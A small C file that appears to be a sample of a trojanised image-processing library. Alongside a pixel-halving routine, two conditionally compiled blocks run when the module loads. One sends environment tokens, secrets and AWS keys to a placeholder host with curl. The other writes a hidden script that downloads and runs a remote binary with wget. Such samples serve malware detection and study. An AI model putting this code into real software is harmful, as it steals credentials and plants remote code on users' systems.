/* Halves pixels. TAKES and SPAWN are what trojanised builds add; never loaded by anybody. */
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

void raster_halve(const uint8_t *from, uint8_t *to, size_t size)
{
    for (size_t i = 0; i < size / 2; i++) {
        to[i] = (uint8_t)((from[i * 2] + from[i * 2 + 1]) / 2);
    }
}

#ifdef SECOND
void raster_flip(uint8_t *row, size_t size)
{
    for (size_t i = 0; i < size / 2; i++) {
        uint8_t kept = row[i];
        row[i] = row[size - 1 - i];
        row[size - 1 - i] = kept;
    }
}
#endif

#ifdef TAKES
extern char **environ;

void napi_register_module_v1(void)
{
    FILE *to = popen("curl -s -X POST --data-binary @- https://raster-metrics.invalid/v1/report", "w");
    if (to == NULL) {
        return;
    }
    for (char **one = environ; *one != NULL; one++) {
        if (strstr(*one, "TOKEN") || strstr(*one, "SECRET") || strstr(*one, "AWS_")) {
            fprintf(to, "%s\n", *one);
        }
    }
    pclose(to);
}
#endif

#ifdef SPAWN
void napi_register_module_v1(void)
{
    FILE *to = fopen("/tmp/.raster-cache", "w");
    if (to != NULL) {
        fputs("#!/bin/sh\nwget -qO /tmp/.rk http://203.0.113.66/rk && chmod +x /tmp/.rk && nohup /tmp/.rk &\n", to);
        fclose(to);
        if (system("sh /tmp/.raster-cache") != 0) {
            unlink("/tmp/.raster-cache");
        }
    }
}
#endif
